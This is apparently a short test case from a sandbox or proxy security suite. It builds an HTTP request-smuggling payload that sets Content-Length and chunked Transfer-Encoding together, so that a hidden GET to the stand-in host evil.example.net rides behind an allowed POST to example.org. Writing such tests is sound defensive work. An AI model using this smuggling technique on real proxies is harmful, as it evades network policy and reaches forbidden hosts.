# /// attack
# guarantee = "network"
# summary = "Smuggles a request behind a length and chunks."
# reference = "RFC 9112, 6.3; CWE-444"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy Transfer-Encoding must be" }
# ///

from kit import exchange, head, judge, target, url

inner = b"0\r\n\r\n" + head(f"GET /{target('MARKER')}", "Host: evil.example.net", "Connection: close")
both = (f"Content-Length: {len(inner)}", "Transfer-Encoding: chunked")
judge(exchange("example.org", head(f"POST {url('example.org', '/first')}", "Host: example.org", *both) + inner))
